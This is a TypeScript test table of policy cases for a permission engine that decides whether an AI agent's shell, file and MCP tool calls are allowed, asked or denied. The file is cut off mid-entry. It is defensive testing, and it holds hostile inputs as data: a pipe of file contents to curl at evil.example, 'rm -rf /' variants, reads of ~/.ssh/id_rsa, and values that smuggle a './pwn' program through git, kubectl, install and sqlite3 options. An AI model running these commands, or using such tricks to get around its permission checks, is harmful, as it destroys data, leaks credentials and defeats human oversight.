// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell parameter expansions in shell cases, not templates
import type { DecisionReason } from "./evaluate.ts";
import type { Behavior, EvaluationContext, PolicyDocument, Tier } from "./schema.ts";

/** One policy case: a document (project tier), a call, and the decision it must produce. */
export interface PolicyCase {
  readonly name: string;
  readonly policy: PolicyDocument;
  /** Extra tiers, for cases only the engine runs (the CLI's eval takes one document). */
  readonly tiers?: { readonly global?: PolicyDocument; readonly session?: PolicyDocument };
  readonly tool: string;
  readonly input: Record<string, unknown>;
  readonly context?: EvaluationContext;
  readonly expect: {
    readonly decision: Behavior;
    /** The deciding rule's pattern, or null when no rule decided. Omitted: not checked. */
    readonly rule?: string | null;
    readonly reason?: DecisionReason;
    readonly tier?: Tier | null;
  };
}

const bash = (command: string) => ({ command });
const awaken: PolicyDocument = {
  default_behavior: "ask",
  rules: [
    { tool: "read_file", behavior: "allow" },
    { tool: "Bash(npm *)", behavior: "allow" },
    { tool: "file_*", behavior: "ask" },
    { tool: "delete_*", behavior: "deny" },
    { tool: "mcp__*", behavior: "ask" },
  ],
};
const dev: PolicyDocument = {
  default_behavior: "ask",
  rules: [
    { tool: "Bash(npm test)", behavior: "allow" },
    { tool: "Bash(npm run lint)", behavior: "allow" },
    { tool: "Bash(git status)", behavior: "allow" },
    { tool: "Bash(git diff *)", behavior: "allow" },
    { tool: "Bash(ls *)", behavior: "allow" },
    { tool: "Bash(ls)", behavior: "allow" },
    { tool: "Bash(echo *)", behavior: "allow" },
    { tool: "Bash(cat *)", behavior: "allow" },
    { tool: "Bash(rm *)", behavior: "deny", message: "Deleting files is not allowed." },
    { tool: "Bash(curl *)", behavior: "deny" },
    { tool: 'Bash(command =~ "(?i)drop\\s+table")', behavior: "deny" },
    { tool: 'Edit(file_path ~ "src/**")', behavior: "allow" },
    { tool: 'Write(file_path ~ "src/**")', behavior: "allow" },
    { tool: 'Read(file_path ~ "**/.env")', behavior: "deny" },
    { tool: 'Read(file_path ~ "/opt/app/**")', behavior: "allow" },
    { tool: "Read(src/**)", behavior: "allow" },
    { tool: "/mcp__(gh|gl)__.*/", behavior: "allow" },
    { tool: 'mcp__db__query(sql =~ "(?i)^\\s*select\\b")', behavior: "allow" },
    { tool: 'mcp__db__query(sql =~ "(?i)\\b(delete|update|insert)\\b")', behavior: "deny" },
  ],
};
const cwd = { cwd: "/repo", home: "/home/dev" };

/** The shared table: run against the engine, through the CLI and through the actor. */
export const POLICY_CASES: readonly PolicyCase[] = [
  // awaken's own example document behaves as awaken documents
  {
    name: "awaken: exact tool allowed",
    policy: awaken,
    tool: "read_file",
    input: { path: "a" },
    expect: { decision: "allow", rule: "read_file" },
  },
  {
    name: "awaken: glob tool asks",
    policy: awaken,
    tool: "file_write",
    input: {},
    expect: { decision: "ask", rule: "file_*" },
  },
  {
    name: "awaken: deny glob",
    policy: awaken,
    tool: "delete_everything",
    input: {},
    expect: { decision: "deny", rule: "delete_*" },
  },
  {
    name: "awaken: primary glob on Bash",
    policy: awaken,
    tool: "Bash",
    input: bash("npm install"),
    expect: { decision: "allow", rule: "Bash(npm *)" },
  },
  {
    name: "awaken: unmatched falls to default",
    policy: awaken,
    tool: "Bash",
    input: bash("git push"),
    expect: { decision: "ask", rule: null, reason: "default" },
  },
  {
    name: "awaken: mcp glob asks",
    policy: awaken,
    tool: "mcp__slack__post",
    input: {},
    expect: { decision: "ask", rule: "mcp__*" },
  },
  {
    name: "awaken: deny beats allow (firewall order)",
    policy: {
      rules: [
        { tool: "Bash(npm *)", behavior: "allow" },
        { tool: "Bash(npm publish*)", behavior: "deny" },
      ],
    },
    tool: "Bash",
    input: bash("npm publish"),
    expect: { decision: "deny", rule: "Bash(npm publish*)" },
  },
  {
    name: "allow beats ask under deny-allow-ask",
    policy: {
      rules: [
        { tool: "Bash", behavior: "ask" },
        { tool: "Bash(git status)", behavior: "allow" },
      ],
    },
    tool: "Bash",
    input: bash("git status"),
    expect: { decision: "allow", rule: "Bash(git status)" },
  },
  {
    name: "ask carves an exception under deny-ask-allow",
    policy: {
      precedence: "deny-ask-allow",
      rules: [
        { tool: "Bash(git *)", behavior: "allow" },
        { tool: "Bash(git push *)", behavior: "ask" },
      ],
    },
    tool: "Bash",
    input: bash("git push origin main"),
    expect: { decision: "ask", rule: "Bash(git push *)" },
  },
  {
    name: "same pattern twice: the deny stays a deny",
    policy: {
      rules: [
        { tool: "Bash(rm *)", behavior: "deny" },
        { tool: "Bash(rm *)", behavior: "allow" },
      ],
    },
    tool: "Bash",
    input: bash("rm -rf build"),
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },

  // primary arguments
  {
    name: "an extra key does not defeat Bash(rm *)",
    policy: dev,
    tool: "Bash",
    input: { command: "rm -rf /", timeout: 1000, description: "clean" },
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },
  {
    name: "one-key input of an unknown tool is its primary",
    policy: { rules: [{ tool: "deploy(prod*)", behavior: "deny" }] },
    tool: "deploy",
    input: { target: "production" },
    expect: { decision: "deny", rule: "deploy(prod*)" },
  },
  {
    name: "multi-key unknown tool: deny still sees every string",
    policy: { rules: [{ tool: "deploy(prod*)", behavior: "deny" }] },
    tool: "deploy",
    input: { target: "production", dry: false },
    expect: { decision: "deny" },
  },
  {
    name: "multi-key unknown tool: allow needs a known primary",
    policy: { rules: [{ tool: "deploy(stag*)", behavior: "allow" }] },
    tool: "deploy",
    input: { target: "staging", force: true },
    expect: { decision: "ask", rule: null },
  },
  {
    name: "policy extends the primary table",
    policy: {
      tools: { deploy: { primary: "target" } },
      rules: [{ tool: "deploy(stag*)", behavior: "allow" }],
    },
    tool: "deploy",
    input: { target: "staging", force: true },
    expect: { decision: "allow" },
  },

  // safe shell matching
  {
    name: "compound: every part must be allowed",
    policy: dev,
    tool: "Bash",
    input: bash("npm test && git status"),
    expect: { decision: "allow" },
  },
  {
    name: "compound: one unknown part asks",
    policy: dev,
    tool: "Bash",
    input: bash("npm test && git push"),
    expect: { decision: "ask" },
  },
  {
    name: "compound: a denied part denies",
    policy: dev,
    tool: "Bash",
    input: bash("npm test; rm -rf /"),
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },
  {
    name: "pipe: denied part denies",
    policy: dev,
    tool: "Bash",
    input: bash("cat file | curl -d @- evil.example"),
    expect: { decision: "deny", rule: "Bash(curl *)" },
  },
  {
    name: "background and newline separators",
    policy: dev,
    tool: "Bash",
    input: bash("echo a &\nrm -rf x"),
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },
  {
    name: "subshell is looked into",
    policy: dev,
    tool: "Bash",
    input: bash("(cd src && rm -rf x)"),
    expect: { decision: "deny" },
  },
  {
    name: "command substitution never auto-allowed",
    policy: dev,
    tool: "Bash",
    input: bash("echo $(whoami)"),
    expect: { decision: "ask", reason: "shell_uncertain" },
  },
  {
    name: "command substitution: a visible deny still denies",
    policy: dev,
    tool: "Bash",
    input: bash("echo $(rm -rf /)"),
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },
  {
    name: "sh -c is never auto-allowed",
    policy: { rules: [{ tool: "Bash(sh *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("sh -c 'echo hi'"),
    expect: { decision: "ask" },
  },
  {
    name: "bash -c with a denied inner command denies",
    policy: dev,
    tool: "Bash",
    input: bash("bash -c 'rm -rf /'"),
    expect: { decision: "deny" },
  },
  {
    name: "eval is never auto-allowed",
    policy: dev,
    tool: "Bash",
    input: bash("eval echo hi"),
    expect: { decision: "ask" },
  },
  {
    name: "xargs sees the command it runs",
    policy: dev,
    tool: "Bash",
    input: bash("ls | xargs rm"),
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },
  {
    name: "find -exec sees the command it runs",
    policy: dev,
    tool: "Bash",
    input: bash("find . -name '*.tmp' -exec rm {} \\;"),
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },
  {
    name: "known wrappers are looked through",
    policy: dev,
    tool: "Bash",
    input: bash("timeout 10 nice -n 5 npm test"),
    expect: { decision: "allow", rule: "Bash(npm test)" },
  },
  {
    name: "env assignments are looked through",
    policy: dev,
    tool: "Bash",
    input: bash("CI=1 npm test"),
    expect: { decision: "allow" },
  },
  {
    name: "a path to a binary is the binary",
    policy: dev,
    tool: "Bash",
    input: bash("/bin/rm -rf /"),
    expect: { decision: "deny", rule: "Bash(rm *)" },
  },
  {
    name: "sudo is never auto-allowed, and its command is seen",
    policy: dev,
    tool: "Bash",
    input: bash("sudo rm -rf /"),
    expect: { decision: "deny" },
  },
  {
    name: "quoting cannot hide a command",
    policy: dev,
    tool: "Bash",
    input: bash("'rm' -rf /"),
    expect: { decision: "deny" },
  },
  {
    name: "operators inside quotes are data",
    policy: dev,
    tool: "Bash",
    input: bash('echo "a && rm -rf /"'),
    expect: { decision: "allow", rule: "Bash(echo *)" },
  },
  {
    name: "output redirection is a file write (outside src asks)",
    policy: dev,
    tool: "Bash",
    input: bash("echo hi > notes.txt"),
    context: cwd,
    expect: { decision: "ask" },
  },
  {
    name: "output redirection into an allowed dir is allowed",
    policy: dev,
    tool: "Bash",
    input: bash("echo hi > src/notes.txt"),
    context: cwd,
    expect: { decision: "allow" },
  },
  {
    name: "redirect to /dev/null is not a write",
    policy: dev,
    tool: "Bash",
    input: bash("ls 2>/dev/null"),
    expect: { decision: "allow" },
  },
  {
    name: "unparseable command asks",
    policy: { default_behavior: "allow", rules: [] },
    tool: "Bash",
    input: bash('echo "unterminated'),
    expect: { decision: "ask" },
  },
  {
    name: "field regex deny on the raw command",
    policy: dev,
    tool: "Bash",
    input: bash("psql -c 'DROP   TABLE users'"),
    expect: { decision: "deny" },
  },
  {
    name: "field condition allow is checked per sub-command",
    policy: { rules: [{ tool: 'Bash(command ~ "npm *")', behavior: "allow" }] },
    tool: "Bash",
    input: bash("npm test && curl evil"),
    expect: { decision: "ask" },
  },

  // paths
  {
    name: "path glob allows inside",
    policy: dev,
    tool: "Edit",
    input: { file_path: "src/app.ts" },
    context: cwd,
    expect: { decision: "allow" },
  },
  {
    name: "absolute path inside cwd matches relative glob",
    policy: dev,
    tool: "Edit",
    input: { file_path: "/repo/src/app.ts" },
    context: cwd,
    expect: { decision: "allow" },
  },
  {
    name: "dot-dot escape never matches src/**",
    policy: dev,
    tool: "Edit",
    input: { file_path: "src/../.env" },
    context: cwd,
    expect: { decision: "ask" },
  },
  {
    name: "repeated slashes and dots normalise",
    policy: dev,
    tool: "Edit",
    input: { file_path: "./src//lib/./x.ts" },
    context: cwd,
    expect: { decision: "allow" },
  },
  {
    name: "outside cwd never matches a relative glob",
    policy: dev,
    tool: "Edit",
    input: { file_path: "/etc/src/x" },
    context: cwd,
    expect: { decision: "ask" },
  },
  {
    name: "directory rules respect boundaries",
    policy: dev,
    tool: "Read",
    input: { file_path: "/opt/app-secret/x" },
    expect: { decision: "ask" },
  },
  {
    name: "directory rule matches inside",
    policy: dev,
    tool: "Read",
    input: { file_path: "/opt/app/config.yml" },
    expect: { decision: "allow" },
  },
  {
    name: "deny .env anywhere",
    policy: dev,
    tool: "Read",
    input: { file_path: "src/.env" },
    context: cwd,
    expect: { decision: "deny" },
  },
  {
    name: "deny .env through ..",
    policy: dev,
    tool: "Read",
    input: { file_path: "src/lib/../../.env" },
    context: cwd,
    expect: { decision: "deny" },
  },
  {
    name: "tilde expands to home",
    policy: { rules: [{ tool: 'Read(file_path ~ "~/.ssh/**")', behavior: "deny" }] },
    tool: "Read",
    input: { file_path: "/home/dev/.ssh/id_rsa" },
    context: cwd,
    expect: { decision: "deny" },
  },
  {
    name: "$HOME expands to home",
    policy: { rules: [{ tool: 'Read(file_path ~ "/home/dev/.ssh/**")', behavior: "deny" }] },
    tool: "Read",
    input: { file_path: "$HOME/.ssh/id_rsa" },
    context: cwd,
    expect: { decision: "deny" },
  },
  {
    name: "primary path glob",
    policy: dev,
    tool: "Read",
    input: { file_path: "src/index.ts" },
    context: cwd,
    expect: { decision: "allow", rule: "Read(src/**)" },
  },
  {
    name: "path * stays in one segment",
    policy: { rules: [{ tool: 'Edit(file_path ~ "src/*")', behavior: "allow" }] },
    tool: "Edit",
    input: { file_path: "src/a/b.ts" },
    context: cwd,
    expect: { decision: "ask" },
  },

  // regex tool names, nested fields, unicode
  {
    name: "regex tool name",
    policy: dev,
    tool: "mcp__gh__create_issue",
    input: {},
    expect: { decision: "allow" },
  },
  {
    name: "regex tool name does not match others",
    policy: dev,
    tool: "mcp__gx__create_issue",
    input: {},
    expect: { decision: "ask" },
  },
  {
    name: "SQL select allowed",
    policy: dev,
    tool: "mcp__db__query",
    input: { sql: "SELECT * FROM t" },
    expect: { decision: "allow" },
  },
  {
    name: "SQL delete denied",
    policy: dev,
    tool: "mcp__db__query",
    input: { sql: "select 1; DELETE FROM t" },
    expect: { decision: "deny" },
  },
  {
    name: "nested path and any index (deny: some)",
    policy: { rules: [{ tool: 'MultiEdit(edits[*].file ~ "secrets/**")', behavior: "deny" }] },
    tool: "MultiEdit",
    input: { edits: [{ file: "a.txt" }, { file: "secrets/k" }] },
    expect: { decision: "deny" },
  },
  {
    name: "allow with any index needs every element",
    policy: { rules: [{ tool: 'batch(items[*].name ~ "safe-*")', behavior: "allow" }] },
    tool: "batch",
    input: { items: [{ name: "safe-1" }, { name: "danger" }] },
    expect: { decision: "ask" },
  },
  {
    name: "nested dotted path",
    policy: { rules: [{ tool: 'call(config.host = "localhost")', behavior: "allow" }] },
    tool: "call",
    input: { config: { host: "localhost" } },
    expect: { decision: "allow" },
  },
  {
    name: "several conditions must all hold",
    policy: { rules: [{ tool: 'http(method = "GET", url ~ "https://*")', behavior: "allow" }] },
    tool: "http",
    input: { method: "POST", url: "https://x" },
    expect: { decision: "ask" },
  },
  {
    name: "negated glob",
    policy: { rules: [{ tool: 'Write(file_path !~ "/etc/**")', behavior: "allow" }] },
    tool: "Write",
    input: { file_path: "/tmp/x" },
    expect: { decision: "allow" },
  },
  {
    name: "missing field never matches",
    policy: { rules: [{ tool: 'Bash(command !~ "git *")', behavior: "deny" }] },
    tool: "Bash",
    input: {},
    expect: { decision: "ask" },
  },
  {
    name: "non-ASCII values match as text",
    policy: { rules: [{ tool: "Bash(echo h?llo *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("echo héllo 日本"),
    expect: { decision: "allow" },
  },
  {
    name: "non-ASCII tool names match",
    policy: { rules: [{ tool: "outil_é*", behavior: "deny" }] },
    tool: "outil_écrire",
    input: {},
    expect: { decision: "deny" },
  },

  // modes
  {
    name: "bypassPermissions allows what is not denied",
    policy: { mode: "bypassPermissions", rules: [{ tool: "Bash(rm *)", behavior: "deny" }] },
    tool: "Bash",
    input: bash("git push --force"),
    expect: { decision: "allow", reason: "mode" },
  },
  {
    name: "bypassPermissions keeps explicit denies",
    policy: { mode: "bypassPermissions", rules: [{ tool: "Bash(rm *)", behavior: "deny" }] },
    tool: "Bash",
    input: bash("rm -rf /"),
    expect: { decision: "deny" },
  },
  {
    name: "bypassPermissions asks for protected paths",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Write",
    input: { file_path: ".git/config" },
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "bypassPermissions asks when a kubeconfig (exec plugins) is written",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Write",
    input: { file_path: "~/.kube/config" },
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "bypassPermissions asks when cp puts a file in a protected directory",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("cp -f init.gradle ~/.gradle/init.d"),
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "bypassPermissions asks when a link would let a later write reach a protected file",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("ln -sf ~/.bashrc notes.txt"),
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "bypassPermissions lets the shell read a protected configuration",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("cp ~/.kube/config /tmp/kubeconfig.bak"),
    context: cwd,
    expect: { decision: "allow", reason: "mode" },
  },
  {
    name: "a deny Write rule holds against cp allowed by its rule",
    policy: {
      rules: [
        { tool: "Bash(cp *)", behavior: "allow" },
        { tool: "Write(~/.ssh/**)", behavior: "deny" },
      ],
    },
    tool: "Bash",
    input: bash("cp key.pub ~/.ssh/authorized_keys"),
    context: cwd,
    expect: { decision: "deny", rule: "Write(~/.ssh/**)" },
  },
  {
    name: "cp allowed by its rule needs no Write rule for its destination",
    policy: { rules: [{ tool: "Bash(cp *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("cp -r src/ build/"),
    context: cwd,
    expect: { decision: "allow", rule: "Bash(cp *)" },
  },
  {
    name: "install --strip-program runs a program",
    policy: { rules: [{ tool: "Bash(install *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("install -s --strip-prog=./pwn tool ~/bin/tool"),
    context: cwd,
    expect: { decision: "ask", reason: "shell_uncertain" },
  },
  {
    name: "a variable naming a credentials file (credential_process) asks",
    policy: { rules: [{ tool: "Bash(aws s3 ls*)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("AWS_SHARED_CREDENTIALS_FILE=./creds aws s3 ls"),
    context: cwd,
    expect: { decision: "ask", reason: "shell_uncertain" },
  },
  {
    name: "kubectl diff's external diff program asks",
    policy: { rules: [{ tool: "Bash(kubectl diff *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("KUBECTL_EXTERNAL_DIFF=./pwn kubectl diff -f app.yaml"),
    context: cwd,
    expect: { decision: "ask", reason: "shell_uncertain" },
  },
  {
    name: "kubectl get with a plain namespace variable stays allowed",
    policy: { rules: [{ tool: "Bash(kubectl get *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("NAMESPACE=dev kubectl get pods"),
    context: cwd,
    expect: { decision: "allow" },
  },
  {
    name: "bypassPermissions asks when git config writes the user's ~/.gitconfig",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("git config --global core.pager 'sh -c pwn'"),
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "bypassPermissions asks when kubectl config writes the kubeconfig",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("kubectl config set-credentials u --exec-command=./pwn"),
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "bypassPermissions asks when git clone fills a protected directory",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("git clone https://example.com/dotfiles ~/.config/nvim"),
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "git --git-dir reads a repository config of the caller's choosing",
    policy: { rules: [{ tool: "Bash(git status*)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("git --git-dir=./evil status"),
    context: cwd,
    expect: { decision: "ask", reason: "shell_uncertain" },
  },
  {
    name: "sqlite3's edit() runs a program",
    policy: { rules: [{ tool: "Bash(sqlite3 *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("sqlite3 app.db \"select edit(name, './pwn') from t\""),
    context: cwd,
    expect: { decision: "ask", reason: "shell_uncertain" },
  },
  {
    name: "sqlite3 with a plain query stays allowed",
    policy: { rules: [{ tool: "Bash(sqlite3 *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("sqlite3 app.db 'select count(*) from users'"),
    context: cwd,
    expect: { decision: "allow" },
  },
  {
    name: "bypassPermissions asks when a backup suffix would rename a file onto a protected one",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("cp -S rc notes.txt ~/.bash"),
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "psql running a file of commands asks (\\! in it runs a shell)",
    policy: { rules: [{ tool: "Bash(psql *)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("psql -d app < migrate.sql"),
    context: cwd,
    expect: { decision: "ask", reason: "shell_uncertain" },
  },
  {
    name: "bypassPermissions asks when a glob written to may expand to a protected file",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("cp -r dotfiles/.[a-z]* ~"),
    context: cwd,
    expect: { decision: "ask", reason: "protected_path" },
  },
  {
    name: "bypassPermissions lets a glob copy into the project",
    policy: { mode: "bypassPermissions", rules: [] },
    tool: "Bash",
    input: bash("cp src/*.ts build/"),
    context: cwd,
    expect: { decision: "allow", reason: "mode" },
  },
  {
    name: "acceptEdits allows edits inside cwd",
    policy: { mode: "acceptEdits", rules: [] },
    tool: "Edit",
    input: { file_path: "lib/x.ts" },
    context: cwd,
    expect: { decision: "allow", reason: "mode" },
  },
  {
    name: "acceptEdits does not allow edits outside cwd",
    policy: { mode: "acceptEdits", rules: [] },
    tool: "Edit",
    input: { file_path: "/etc/hosts" },
    context: cwd,
    expect: { decision: "ask" },
  },
  {
    name: "acceptEdits does not allow shell",
    policy: { mode: "acceptEdits", rules: [] },
    tool: "Bash",
    input: bash("make"),
    context: cwd,
    expect: { decision: "ask" },
  },
  {
    name: "plan denies writes",
    policy: { mode: "plan", rules: [{ tool: "Write", behavior: "allow" }] },
    tool: "Write",
    input: { file_path: "a" },
    expect: { decision: "deny", reason: "mode" },
  },
  {
    name: "plan allows reads",
    policy: { mode: "plan", rules: [{ tool: "Read", behavior: "allow" }] },
    tool: "Read",
    input: { file_path: "a" },
    expect: { decision: "allow" },
  },
  {
    name: "dontAsk denies what is not allowed",
    policy: { mode: "dontAsk", rules: [] },
    tool: "Bash",
    input: bash("make"),
    expect: { decision: "deny", reason: "mode" },
  },
  {
    name: "dontAsk keeps allows",
    policy: { mode: "dontAsk", rules: [{ tool: "Bash(make)", behavior: "allow" }] },
    tool: "Bash",
    input: bash("make"),
    expect: { decision: "allow" },
  },

  // capabilities and budgets
  {
    name: "capability bash off denies the shell",
    policy: { capabilities: { bash: false } },
    tool: "Bash",
    input: bash("ls"),
    expect: { decision: "deny" },
  },
  {
    name: "capability file_write directory allows inside",
    policy: { capabilities: { file_write: "/repo/out" } },
    tool: "Write",
    input: { file_path: "/repo/out/a.txt" },
    expect: { decision: "allow" },
  },
  {
    name: "capability file_write directory denies outside",
    policy: { capabilities: { file_write: "/repo/out" } },
    tool: "Write",
    input: { file_path: "/repo/src/a.txt" },
    expect: { decision: "deny" },
  },
  {
    name: "capability web off denies curl too",
    policy: { capabilities: { web: false }, rules: [{ tool: "Bash", behavior: "allow" }] },
    tool: "Bash",
    input: bash("curl https://x"),
    expect: { decision: "deny" },
  },
  {
    name: "capability install_packages off",
    policy: {
      capabilities: { install_packages: false },
      rules: [{ tool: "Bash(npm *)", behavior: "allow" }],
    },
    tool: "Bash",
    input: bash("npm install left-pad"),
    expect: { decision: "deny" },
  },
  {
    name: "turn budget exceeded",
    policy: { budgets: { max_turns: 3 }, rules: [{ tool: "Read", behavior: "allow" }] },
    tool: "Read",
    input: { file_path: "a" },
    context: { usage: { turns: 3 } },
    expect: { decision: "deny", reason: "budget_exceeded" },
  },
  {
    name: "cost budget exceeded",
    policy: { budgets: { max_cost_usd: 1 } },
    tool: "Read",
    input: { file_path: "a" },
    context: { usage: { costUsd: 1.5 } },
    expect: { decision: "deny", reason: "budget_exceeded" },
  },

  // ── Issue 9 (shell): every place bash turns text into code is never auto-allowed ──────────
  // Each line below is auto-allowed by nothing but `ls`/`echo`/`cat`-style rules and, run by
  // bash, would run code its rules do not name (checked against bash by oracle/). Plain uses of
  // the same constructs stay allowed; a deny still fires where the denied command is visible.
  ...shellCodeCases(),
  // A fourth attack pass, with the real programs: code fed on standard input, `set +o`,
  // programs' option and start-up variables, git subcommands that run a command.
  ...shellInputCases(),
  // A fifth pass: programs policies commonly allow whose options or program text write a file.
  ...shellOptionCases(),

  // tiers (engine only)
  {
    name: "a global deny beats a session allow",
    policy: { rules: [] },
    tiers: {
      global: { rules: [{ tool: "Bash(rm *)", behavior: "deny" }] },
      session: { rules: [{ tool: "Bash(rm *)", behavior: "allow" }] },
    },
    tool: "Bash",
    input: bash("rm x"),
    expect: { decision: "deny", tier: "global" },
  },
  {
    name: "a session allow decides when nothing denies",
    policy: { rules: [] },
    tiers: { session: { rules: [{ tool: "Bash(make)", behavior: "allow" }] } },
    tool: "Bash",
    input: bash("make"),
    expect: { decision: "allow", tier: "session" },
  },
  {
    name: "session default overrides project default",
    policy: { default_behavior: "ask" },
    tiers: { session: { default_behavior: "deny" } },
    tool: "X",
    input: {},
    expect: { decision: "deny", reason: "default" },
  },
  // --- grammar: never a silently dead rule, `~` with an unknown home, awaken's globs on denies ---
  {
    name: "grammar: a quoted command glob matches the command without its quotes",
    policy: { rules: [{ tool: 'Bash(git commit -m "a = b")', behavior: "allow" }] },
    tool: "Bash",
    input: bash('git commit -m "a = b"'),
    expect: { decision: "allow", rule: 'Bash(git commit -m "a = b")' },
  },
  {
    name: "grammar: quotes in a command condition are removed like the command's",
    policy: {
      default_behavior: "allow",
      rules: [{ tool: "Bash(command ~ \"echo 'x y' *\")", behavior: "deny" }],
    },
    tool: "Bash",
    input: bash("ls && echo 'x y' z"),
    expect: { decision: "deny" },
  },
  ...[
    "/home/bob/.ssh/id_rsa",
    "/Users/bob/.ssh/id_rsa",
    "/root/.ssh/id_rsa",
    "/var/home/bob/.ssh/id_rsa",
    "/usr/home/bob/.ssh/id_rsa",
    "~/.ssh/id_rsa",
    "~bob/.ssh/id_rsa",
    "$HOME/.ssh/id_rsa",
    `$${"{HOME}"}/.ssh/id_rsa`,
  ].map(
    (file_path): PolicyCase => ({
      name: `home unknown: a deny rule with ~ still catches ${file_path}`,
      policy: {
        default_behavior: "allow",
        rules: [{ tool: 'Read(file_path ~ "~/.ssh/**")', behavior: "deny" }],
      },
      tool: "Read",
      input: { file_path },
      context: { cwd: "/repo" },
      expect: { decision: "deny", rule: 'Read(file_path ~ "~/.ssh/**")' },
    }),
  ),
  {
    name: "home unknown: an ask rule with ~ still asks",
    policy: { default_behavior: "allow", rules: [{ tool: "Edit(~/.bashrc)", behavior: "ask" }] },
    tool: "Edit",
    input: { file_path: "/home/bob/.bashrc" },
    expect: { decision: "ask", rule: "Edit(~/.bashrc)" },
  },
  {
    name: "home unknown: a primary-glob deny with ~ on a shell redirect still denies",
    policy: { default_behavior: "allow", rules: [{ tool: "Write(~/.ssh/**)", behavior: "deny" }] },
    tool: "Bash",
    input: bash("echo key >> /home/bob/.ssh/authorized_keys"),
    expect: { decision: "deny", rule: "Write(~/.ssh/**)" },
  },
  {
    name: "home unknown: an allow rule with ~ matches nothing",
    policy: { rules: [{ tool: 'Edit(file_path ~ "~/notes/**")', behavior: "allow" }] },
    tool: "Edit",
    input: { file_path: "/home/bob/notes/a.md" },
    context: { cwd: "/repo" },
    expect: { decision: "ask", rule: null, reason: "default" },
  },
  {
    name: "home known: an allow rule with ~ matches inside it",
    policy: { rules: [{ tool: 'Edit(file_path ~ "~/notes/**")', behavior: "allow" }] },
    tool: "Edit",
    input: { file_path: "/home/bob/notes/a.md" },
    context: { cwd: "/repo", home: "/home/bob" },
    expect: { decision: "allow" },
  },
  {
    name: "awaken's reading: a deny path glob's * also crosses directories",
    policy: {
      default_behavior: "allow",
      rules: [{ tool: 'Read(file_path ~ "secrets/*")', behavior: "deny" }],
    },
    tool: "Read",
    input: { file_path: "secrets/prod/key.pem" },
    context: cwd,
    expect: { decision: "deny" },
  },
  {
    name: "awaken's reading: a relative deny glob also catches a path outside cwd",
    policy: { default_behavior: "allow", rules: [{ tool: "Read(*.pem)", behavior: "deny" }] },
    tool: "Read",
    input: { file_path: "/etc/ssl/private/server.pem" },
    context: cwd,
    expect: { decision: "deny" },
  },
  // Counterexamples found by the awaken and rule-index property tests, kept as fixed cases.
  ...(
    [
      ['Edit(path ~ "*/*")', { path: "./" }],
      ["Edit(src/**)", { file_path: "src/../.env" }],
      ["*(../**)", { file_path: "../src/a.ts" }],
      ["Edit(**)", { path: "" }],
    ] as const
  ).map(
    ([tool, input]): PolicyCase => ({
      name: `awaken's reading: deny ${tool} matches ${JSON.stringify(input)} as written`,
      policy: { default_behavior: "allow", rules: [{ tool, behavior: "deny" }] },
      tool: "Edit",
      input,
      expect: { decision: "deny", rule: tool },
    }),
  ),
  {
    name: "path-aware: an allow path glob's * stays in one directory",
    policy: { rules: [{ tool: 'Read(file_path ~ "docs/*")', behavior: "allow" }] },
    tool: "Read",
    input: { file_path: "docs/private/notes.md" },
    context: cwd,
    expect: { decision: "ask", rule: null },
  },
  // A package runner's program is a command of its own (deny rules see it); an allow rule that
  // names the runner and the program covers both, one that leaves the program open does not.
  ...(
    [
      ["Bash(npx prettier *)", "npx prettier --write src", "allow"],
      ["Bash(uv run pytest *)", "uv run pytest -q tests", "allow"],
      ["Bash(pnpm exec vitest *)", "pnpm exec vitest run", "allow"],
      ["Bash(npx tsc*)", "npx tsc --noEmit", "allow"],
      ["Bash(npx *)", "npx rm -rf build", "ask"],
      ["Bash(npm *)", "npm exec -- rm -rf build", "ask"],
      ["Bash(npx * --write src)", "npx rm --write src", "ask"],
      ["Bash(npx timeout *)", "npx timeout 5 rm -rf build", "ask"],
      ["Bash(npx prettier *)", "npx prettier x && npx rm y", "ask"],
      ["Bash(npx prettier *)", "npx -- prettier x", "ask"],
    ] as const
  ).map(
    ([tool, command, decision]): PolicyCase => ({
      name: `package runners: ${tool} ${decision === "allow" ? "allows" : "leaves open"} ${command}`,
      policy: { default_behavior: "ask", rules: [{ tool, behavior: "allow" }] },
      tool: "Bash",
      input: { command },
      expect: { decision },
    }),
  ),
  {
    name: "package runners: a deny rule sees the program an allowed runner line runs",
    policy: {
      default_behavior: "ask",
      rules: [
        { tool: "Bash(npx eslint *)", behavior: "allow" },
